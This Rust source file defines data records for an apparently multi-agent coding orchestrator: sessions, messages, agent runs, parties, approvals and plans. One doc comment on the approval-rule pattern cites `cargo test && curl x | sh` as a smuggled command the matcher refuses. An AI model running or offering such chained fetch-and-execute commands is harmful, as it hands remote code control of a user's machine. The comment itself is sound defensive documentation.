//! Troupe's records: sessions, messages, events, agent runs, parties, tasks, notifications and
//! approvals, as plain data (serde + JSON Schema). The store reads and writes them; the API
//! carries them on the wire. No IO here: with the `sql` feature (the store's) the text enums also
//! convert to and from SQLite values.

use std::collections::{BTreeMap, BTreeSet};

use schemars::JsonSchema;
use serde::{Deserialize, Serialize};
use serde_json::Value;

/// A closed set of words stored as TEXT and carried as a JSON string: `as_str`, `FromStr`
/// (an error names the expected words), serde and JSON Schema (an `enum` of the words), and with
/// the `sql` feature SQLite conversions.
macro_rules! text_enum {
    ($(#[$meta:meta])* $name:ident { $($(#[$vmeta:meta])* $variant:ident = $text:literal),+ $(,)? }) => {
        $(#[$meta])*
        #[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize, JsonSchema)]
        #[serde(rename_all = "snake_case")]
        pub enum $name { $($(#[$vmeta])* $variant),+ }

        impl $name {
            pub fn as_str(self) -> &'static str {
                match self { $($name::$variant => $text),+ }
            }
        }

        impl std::fmt::Display for $name {
            fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
                f.pad(self.as_str())
            }
        }

        impl std::str::FromStr for $name {
            type Err = String;
            fn from_str(s: &str) -> Result<Self, String> {
                match s {
                    $($text => Ok($name::$variant),)+
                    other => Err(format!(
                        "unknown {} {other:?} (expected one of: {})",
                        stringify!($name),
                        [$($text),+].join(", ")
                    )),
                }
            }
        }

        #[cfg(feature = "sql")]
        impl rusqlite::types::FromSql for $name {
            fn column_result(value: rusqlite::types::ValueRef<'_>) -> rusqlite::types::FromSqlResult<Self> {
                value.as_str()?.parse().map_err(|e: String| rusqlite::types::FromSqlError::Other(e.into()))
            }
        }

        #[cfg(feature = "sql")]
        impl rusqlite::ToSql for $name {
            fn to_sql(&self) -> rusqlite::Result<rusqlite::types::ToSqlOutput<'_>> {
                Ok(self.as_str().into())
            }
        }
    };
}

mod recovery;
mod status;
pub use recovery::Strategy;
pub use status::*;

text_enum! {
    /// Whether a session is still around.
    SessionStatus { Active = "active", Ended = "ended" }
}

text_enum! {
    /// How urgently a recipient should look at a message.
    Priority { Low = "low", Normal = "normal", High = "high", Urgent = "urgent" }
}

text_enum! {
    /// How a message was addressed.
    MessageType {
        Direct = "direct",
        ToParent = "to_parent",
        ToChild = "to_child",
        Broadcast = "broadcast",
        Party = "party",
        System = "system",
    }
}

/// A project: a git repository (worktrees of it included), or a plain directory.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
pub struct Project {
    pub project_id: String,
    pub root_path: String,
    pub name: String,
    pub created_at: String,
}

/// A session: one agent CLI or human taking part.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
pub struct Session {
    pub session_id: String,
    pub project_id: String,
    /// The kind of client: claude, codex, gemini, human, …
    pub cli: String,
    pub cwd: String,
    pub external_id: Option<String>,
    pub parent_session_id: Option<String>,
    /// 0 for a session a person started, parent's depth + 1 for a spawned one.
    pub agent_depth: i64,
    pub spawned_by_agent_id: Option<String>,
    pub party_id: Option<String>,
    pub status: SessionStatus,
    pub created_at: String,
    pub last_seen_at: String,
    pub ended_at: Option<String>,
}

/// A stored peer-to-peer message.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
pub struct Message {
    /// Delivery order: strictly increasing, in send (commit) order.
    pub seq: i64,
    pub message_id: String,
    pub project_id: String,
    pub from_session_id: String,
    pub to_session_id: String,
    pub content: String,
    pub priority: Priority,
    pub message_type: MessageType,
    pub party_id: Option<String>,
    pub idempotency_key: Option<String>,
    pub created_at: String,
    pub read_at: Option<String>,
}

/// One entry of the durable timeline.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, JsonSchema)]
pub struct Event {
    pub seq: i64,
    pub at: String,
    pub kind: String,
    pub project_id: Option<String>,
    pub session_id: Option<String>,
    pub party_id: Option<String>,
    pub data: serde_json::Value,
}

/// What to record on the timeline.
#[derive(Debug, Clone, Default)]
pub struct NewEvent {
    pub kind: String,
    pub project_id: Option<String>,
    pub session_id: Option<String>,
    pub party_id: Option<String>,
    pub data: serde_json::Value,
}

/// A session to register. `project_root` is already resolved (git root or directory).
#[derive(Debug, Clone, Default)]
pub struct NewSession {
    pub cli: String,
    pub cwd: String,
    pub project_root: String,
    pub project_name: String,
    pub external_id: Option<String>,
    pub parent_session_id: Option<String>,
    pub spawned_by_agent_id: Option<String>,
    pub party_id: Option<String>,
}

/// The result of registering a session.
#[derive(Debug, Clone)]
pub struct RegisterOutcome {
    pub session: Session,
    pub project: Project,
    /// False when an existing session with the same external id was resumed.
    pub created: bool,
}

/// Which sessions to list. Empty fields do not filter.
#[derive(Debug, Clone, Default)]
pub struct SessionFilter {
    pub project_id: Option<String>,
    pub status: Option<SessionStatus>,
    pub party_id: Option<String>,
    pub parent_session_id: Option<String>,
}

/// A message to send; the recipients are resolved inside the write transaction.
#[derive(Debug, Clone)]
pub struct NewMessage {
    pub from_session_id: String,
    pub recipients: Recipients,
    pub content: String,
    pub priority: Priority,
    /// Defaults to the type implied by the recipients.
    pub message_type: Option<MessageType>,
    pub idempotency_key: Option<String>,
}

/// A stored definition.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, JsonSchema)]
pub struct DefinitionRow {
    pub name: String,
    pub definition: Value,
    pub version: i64,
    pub builtin: bool,
    pub created_at: String,
    pub updated_at: String,
}

/// How an agent run ended (or that it has not).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "snake_case")]
pub enum RunStatus {
    Pending,
    Running,
    Success,
    Partial,
    Blocked,
    Crashed,
    Timeout,
    Cancelled,
}

impl RunStatus {
    pub fn as_str(self) -> &'static str {
        match self {
            RunStatus::Pending => "pending",
            RunStatus::Running => "running",
            RunStatus::Success => "success",
            RunStatus::Partial => "partial",
            RunStatus::Blocked => "blocked",
            RunStatus::Crashed => "crashed",
            RunStatus::Timeout => "timeout",
            RunStatus::Cancelled => "cancelled",
        }
    }

    pub fn is_finished(self) -> bool {
        !matches!(self, RunStatus::Pending | RunStatus::Running)
    }

    /// Ended through `complete`.
    pub fn is_completed(self) -> bool {
        matches!(
            self,
            RunStatus::Success | RunStatus::Partial | RunStatus::Blocked
        )
    }
}

/// One run of an agent (a subagent or a party member's attempt).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, JsonSchema)]
pub struct AgentRun {
    pub run_id: String,
    pub agent_name: String,
    pub definition: Value,
    pub project_id: String,
    pub parent_session_id: Option<String>,
    pub session_id: String,
    pub party_id: Option<String>,
    pub role_name: Option<String>,
    pub instance_index: Option<i64>,
    pub attempt: i64,
    pub prompt: String,
    pub task_id: Option<String>,
    pub status: RunStatus,
    /// The `complete` call: output, status, artifacts, files_modified, next_steps.
    pub result: Option<Value>,
    pub error: Option<String>,
    pub pid: Option<i64>,
    pub pid_start: Option<i64>,
    /// The process group the run's processes live in (its own; none for in-daemon runs): the
    /// whole group is ended with the run, also by a daemon started after a kill -9.
    pub pgid: Option<i64>,
    /// Why it was started: `root`, `handoff`, `router`, `advisor`, `subagent` (none: a
    /// party member or a run from before patterns).
    #[serde(default)]
    pub trigger: Option<String>,
    /// The pattern run it is a step of (that run's id) and its step number there.
    #[serde(default)]
    pub flow_root: Option<String>,
    #[serde(default)]
    pub flow_step: Option<i64>,
    pub workdir: Option<String>,
    pub timeout_ms: Option<i64>,
    pub created_at: String,
    pub started_at: Option<String>,
    pub completed_at: Option<String>,
}

/// What `finish_run` did.
#[derive(Debug, Clone)]
pub struct RunEnd {
    /// The run as it is now.
    pub run: AgentRun,
    /// Whether this call ended it (false: it had already ended, and nothing changed).
    pub changed: bool,
    /// Its requests and questions that were still waiting for a person and are now `expired`.
    pub expired_approvals: Vec<String>,
}

/// Tokens and money an executor spent.
#[derive(Debug, Clone, Copy, Default, PartialEq, Serialize, Deserialize, JsonSchema)]
pub struct Usage {
    pub input_tokens: i64,
    pub output_tokens: i64,
    pub cost_usd: f64,
}

/// A run to create, with its child session.
#[derive(Debug, Clone)]
pub struct NewRun {
    pub agent_name: String,
    pub definition: Value,
    pub session: NewSession,
    pub party: Option<(String, String, i64)>,
    pub attempt: i64,
    pub prompt: String,
    pub task_id: Option<String>,
    pub timeout_ms: Option<i64>,
    pub workdir: Option<String>,
    /// Why it is started (`root`, `handoff`, `router`, `advisor`, `subagent`).
    pub trigger: Option<String>,
    /// The pattern run it is a step of, and its step number there.
    pub flow: Option<(String, i64)>,
    /// An existing session that is the run (a party led by the session that launched it):
    /// no session is registered; that one joins the party.
    pub attach_session: Option<String>,
}

/// A launched party.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, JsonSchema)]
pub struct PartyRow {
    pub party_id: String,
    pub name: String,
    pub project_id: String,
    pub status: PartyStatus,
    pub status_reason: Option<String>,
    /// The definition frozen at launch (the core's `party::Snapshot`; `null` in a brief listing).
    pub snapshot: Value,
    pub inputs: Option<Value>,
    /// Recovery strategies set at run time, by role (`{}` in a brief listing).
    pub overrides: BTreeMap<String, Strategy>,
    /// Roles not scheduled until signalled.
    pub paused: BTreeSet<String>,
    pub repo_root: String,
    pub task_id: Option<String>,
    pub created_by_session_id: Option<String>,
    pub created_at: String,
    pub completed_at: Option<String>,
    /// Roles a signal released from a `role:signal` flow edge.
    #[serde(default)]
    pub released: BTreeSet<String>,
}

/// One member of a party.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, JsonSchema)]
pub struct MemberRow {
    pub party_id: String,
    pub role_name: String,
    pub instance_index: i64,
    pub status: MemberStatus,
    pub crash_count: i64,
    pub attempts: i64,
    pub session_id: Option<String>,
    pub agent_run_id: Option<String>,
    pub workdir: Option<String>,
    pub branch_name: Option<String>,
    pub started_at_ms: Option<i64>,
    pub finished_at_ms: Option<i64>,
}

/// The scheduler's state of one member, to persist after a step.
#[derive(Debug, Clone, PartialEq)]
pub struct MemberState {
    pub role_name: String,
    pub instance_index: i64,
    pub status: MemberStatus,
    pub crash_count: i64,
    pub attempts: i64,
    pub started_at_ms: Option<i64>,
    pub finished_at_ms: Option<i64>,
}

/// A party's state after a step: what the step changed.
#[derive(Debug, Clone, PartialEq)]
pub struct PartyState {
    /// The party's own fields, when the step changed them (`None`: as last saved). Its row also
    /// holds the launch snapshot, whose size grows with the party: a step that leaves these
    /// alone (most steps: one member started or ended) does not touch that row.
    pub head: Option<PartyHead>,
    /// The members the step changed.
    pub members: Vec<MemberState>,
}

/// A party's own state (its row), as a step leaves it.
#[derive(Debug, Clone, PartialEq)]
pub struct PartyHead {
    pub status: PartyStatus,
    pub status_reason: Option<String>,
    pub overrides: BTreeMap<String, Strategy>,
    pub paused: BTreeSet<String>,
    /// Roles a signal released from a `role:signal` flow edge.
    pub released: BTreeSet<String>,
}

/// A task (minimal: enough for escalation and reassignment).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, JsonSchema)]
pub struct Task {
    pub task_id: String,
    pub project_id: String,
    pub party_id: Option<String>,
    pub role_name: Option<String>,
    pub title: String,
    pub description: Option<String>,
    pub status: TaskStatus,
    pub escalation_reason: Option<String>,
    pub created_at: String,
    pub updated_at: String,
}

/// Something the person should see.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, JsonSchema)]
pub struct Notification {
    pub seq: i64,
    pub project_id: Option<String>,
    pub party_id: Option<String>,
    pub kind: String,
    pub text: String,
    pub data: Value,
    pub created_at: String,
    pub read_at: Option<String>,
}

/// A notification to record.
#[derive(Debug, Clone, Default)]
pub struct NewNotification {
    pub project_id: Option<String>,
    pub party_id: Option<String>,
    pub kind: String,
    pub text: String,
    pub data: Value,
}

/// A question an agent asked a person (`ask_person`).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, JsonSchema)]
pub struct Question {
    pub question_id: String,
    pub project_id: String,
    pub session_id: String,
    pub run_id: Option<String>,
    pub party_id: Option<String>,
    pub role_name: Option<String>,
    pub question: String,
    /// The answers offered (none: free text).
    pub choices: Vec<String>,
    pub status: QuestionStatus,
    pub answer: Option<String>,
    pub answered_by: Option<String>,
    pub created_at: String,
    pub answered_at: Option<String>,
}

/// A question to store.
#[derive(Debug, Clone, Default)]
pub struct NewQuestion {
    pub project_id: String,
    pub session_id: String,
    pub run_id: Option<String>,
    pub party_id: Option<String>,
    pub role_name: Option<String>,
    pub question: String,
    pub choices: Vec<String>,
}

/// A permission request.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, JsonSchema)]
pub struct Approval {
    pub approval_id: String,
    pub request_key: Option<String>,
    pub project_id: String,
    pub session_id: String,
    pub run_id: Option<String>,
    pub party_id: Option<String>,
    pub role_name: Option<String>,
    pub tool_name: String,
    pub input: Value,
    /// What rule patterns match: the file path, else the command, else the input as JSON.
    pub subject: String,
    pub file_path: Option<String>,
    pub start_line: Option<i64>,
    pub end_line: Option<i64>,
    pub diff: Option<String>,
    pub is_dangerous: bool,
    pub danger_reason: Option<String>,
    /// Its path lies outside the asking member's checkout: always dangerous, never answered by
    /// a rule.
    pub outside_worktree: bool,
    pub status: ApprovalStatus,
    /// approve, deny, abort, approve_pattern, timeout, rule or expired.
    pub decision: Option<String>,
    pub decided_by: Option<String>,
    pub reason: Option<String>,
    pub rule_id: Option<String>,
    pub expires_at_ms: i64,
    pub created_at: String,
    pub decided_at: Option<String>,
}

/// A request to store.
#[derive(Debug, Clone, Default)]
pub struct NewApproval {
    pub request_key: Option<String>,
    pub project_id: String,
    pub session_id: String,
    pub run_id: Option<String>,
    pub party_id: Option<String>,
    pub role_name: Option<String>,
    pub tool_name: String,
    pub input: Value,
    pub subject: String,
    pub file_path: Option<String>,
    pub start_line: Option<i64>,
    pub end_line: Option<i64>,
    pub diff: Option<String>,
    pub is_dangerous: bool,
    pub danger_reason: Option<String>,
    pub outside_worktree: bool,
    pub expires_at_ms: i64,
    /// A rule that already approves it.
    pub approved_by_rule: Option<String>,
}

/// A stored "approve pattern" rule.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, JsonSchema)]
pub struct ApprovalRule {
    pub rule_id: String,
    pub project_id: String,
    /// None: the whole project.
    pub party_id: Option<String>,
    /// `*` for any tool.
    pub tool_name: String,
    /// A glob over the request's subject, read by kind. A file path is normalised (`.` and `..`
    /// resolved) and matched from its checkout's root, `*` never crossing `/` (a pattern
    /// without `/` matches the file's name anywhere); a path outside the checkout matches no
    /// rule. A shell command is matched word by word: the pattern's last word `*`, or a `*` right
    /// after a letter or digit (`cargo test*`), takes any further words (`cargo test`,
    /// `cargo test --release`, not `cargo testfoo`); an operator (`;`, `&&`, `||`, `|`, `&`,
    /// `>`, `<`, `$(`, a backtick, a newline) matches only where the pattern writes the same
    /// one, so `cargo test*` never matches `cargo test && curl x | sh`. A command that expands a
    /// parameter or names a path outside the checkout matches no rule.
    pub pattern: String,
    pub created_by: Option<String>,
    pub created_at: String,
    pub revoked_at: Option<String>,
}

/// A decision to record.
#[derive(Debug, Clone)]
pub struct Decision {
    pub approval_id: String,
    /// Approved, denied or aborted.
    pub status: ApprovalStatus,
    pub decision: String,
    pub decided_by: Option<String>,
    pub reason: Option<String>,
    /// For approve_pattern: the rule to store (tool, pattern, party scope).
    pub new_rule: Option<(String, String, Option<String>)>,
    /// A person answers a worker's requests in order; a timeout needs no order.
    pub in_order: bool,
}

/// Who a message goes to, relative to the sender.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Recipients {
    /// One session of the sender's project.
    Session(String),
    /// The sender's parent session.
    Parent,
    /// One of the sender's children.
    Child(String),
    /// Every active child of the sender.
    Children,
    /// Every active member of a party (the sender excluded).
    Party(String),
}

impl Recipients {
    pub fn default_type(&self) -> MessageType {
        match self {
            Recipients::Session(_) => MessageType::Direct,
            Recipients::Parent => MessageType::ToParent,
            Recipients::Child(_) => MessageType::ToChild,
            Recipients::Children => MessageType::Broadcast,
            Recipients::Party(_) => MessageType::Party,
        }
    }
}

/// One version of a party's plan (seed 004): proposed as a draft, reviewed, committed (a
/// snapshot), or superseded by a later version.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, JsonSchema)]
pub struct PlanVersion {
    pub party_id: String,
    pub version: i64,
    pub status: PlanStatus,
    /// The steps as proposed (the engine's `StepSpec`).
    pub steps: Value,
    pub summary: Option<String>,
    /// Who proposed it: a role, or "person".
    pub proposed_by: Option<String>,
    pub committed_by: Option<String>,
    pub created_at: String,
    pub committed_at: Option<String>,
    pub reviews: Vec<PlanReview>,
}

/// A teammate's review of a plan version.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, JsonSchema)]
pub struct PlanReview {
    pub version: i64,
    /// A role, or "person".
    pub reviewer: String,
    pub session_id: Option<String>,
    /// approve or request_changes.
    pub verdict: String,
    pub comments: Option<String>,
    pub created_at: String,
}

/// A step of a party's committed plan, with where it is.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, JsonSchema)]
pub struct PlanStep {
    pub step_id: String,
    pub position: i64,
    pub plan_version: i64,
    /// Its owner now (a handoff changes it).
    pub owner_role: String,
    /// The step as committed (the engine's `StepSpec`; `owner_role` there is the first owner).
    pub spec: Value,
    pub state: StepState,
    /// The last submission, review reason, handoff note or blocker.
    pub reason: Option<String>,
    pub started_at_ms: Option<i64>,
    /// The owner's usage when it started the step (what its budget counts from).
    pub usage_at_start: Value,
    pub updated_at: String,
}

/// A decision the party takes together (seed 004): proposed, voted on, committed and
/// written as an ADR.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, JsonSchema)]
pub struct DecisionRecord {
    pub decision_id: String,
    pub party_id: String,
    pub topic: String,
    pub options: Vec<String>,
    pub evidence: Option<String>,
    /// Who may vote: role names and/or "person".
    pub voters: Vec<String>,
    /// The blocked step that raised it.
    pub step_id: Option<String>,
    pub proposed_by: Option<String>,
    /// When voting closes (ms since the epoch).
    pub deadline_ms: i64,
    pub status: DecisionStatus,
    pub chosen: Option<String>,
    /// How it was decided ("all 3 voters voted", "tie broken by the leader", …).
    pub how: Option<String>,
    /// The ADR's path in the checkout it was committed in, and that commit.
    pub adr_path: Option<String>,
    pub adr_commit: Option<String>,
    pub created_at: String,
    pub committed_at: Option<String>,
    pub votes: Vec<Vote>,
}

/// One voter's vote.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, JsonSchema)]
pub struct Vote {
    pub voter: String,
    pub session_id: Option<String>,
    pub option: String,
    pub rationale: Option<String>,
    pub created_at: String,
}

/// Best of N: which attempt of a role was picked to land (by its judge or the person), or that
/// the picking has begun (`judge_run_id` set, no `instance_index` yet).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, JsonSchema)]
pub struct MemberPick {
    pub party_id: String,
    pub role_name: String,
    /// The judge's run, when a judge agent is picking.
    pub judge_run_id: Option<String>,
    /// The picked instance; `None` while the judge is deciding.
    pub instance_index: Option<i64>,
    /// The judge's agent name, or "person".
    pub picked_by: Option<String>,
    pub reason: Option<String>,
    pub created_at: String,
    pub picked_at: Option<String>,
}

/// A party's link to the forge: the issue it started from, the pull request it delivered and
/// where that stands.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, JsonSchema)]
pub struct ForgeLink {
    pub party_id: String,
    /// `owner/name` on the forge.
    pub repo: String,
    pub issue_number: Option<i64>,
    pub pull_number: Option<i64>,
    pub pull_url: Option<String>,
    pub head_branch: Option<String>,
    pub base_branch: Option<String>,
    /// The tip the daemon pushed last.
    pub head_sha: Option<String>,
    /// working (no pull request yet), open (checks and reviews awaited), fixing (a round of
    /// fixes under way), ready (green and approved: the person merges), merged, closed,
    /// gave_up (CI rounds spent).
    pub state: String,
    pub ci_rounds: i64,
    /// The last failure, error or reason, in a sentence.
    pub detail: Option<String>,
    pub created_at: String,
    pub updated_at: String,
}

impl ForgeLink {
    /// A new link of party `party_id` to repository `repo`, with nothing on the forge yet.
    pub fn new(party_id: &str, repo: &str) -> Self {
        ForgeLink {
            party_id: party_id.to_string(),
            repo: repo.to_string(),
            issue_number: None,
            pull_number: None,
            pull_url: None,
            head_branch: None,
            base_branch: None,
            head_sha: None,
            state: "working".into(),
            ci_rounds: 0,
            detail: None,
            created_at: String::new(),
            updated_at: String::new(),
        }
    }
}
